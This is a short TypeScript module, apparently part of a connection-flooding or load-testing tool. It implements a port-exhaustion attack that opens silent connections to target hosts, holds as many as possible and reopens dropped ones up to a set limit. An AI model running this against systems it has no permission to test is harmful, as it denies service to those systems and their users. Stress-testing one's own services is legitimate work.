/** Port exhaustion: opens connections, says nothing, and holds as many of them as it can; what it loses it opens again. */
import { type Attack, type AttackSettings, openConnection } from './attack.js';
import type { AttackReport } from './report.js';

/** Each attempt is a connection that stays open until the other side ends it; `held` in the report is the most at a time. */
export function holdConnections({ targets, connections, attempts }: AttackSettings, report: AttackReport): Attack {
  let wanted = 0;
  let held = 0;
  return {
    attempt() {
      if (wanted >= connections || report.attempts >= attempts) return false;
      let stands = false;
      wanted++;
      openConnection(
        report,
        targets[report.attempts % targets.length],
        {
          connected() {
            stands = true;
            report.held = Math.max(report.held, ++held);
          },
          over() {
            wanted--;
            if (stands) held--;
          },
        },
        true,
      );
      return true;
    },
    done: () => report.attempts >= attempts && wanted === 0,
  };
}
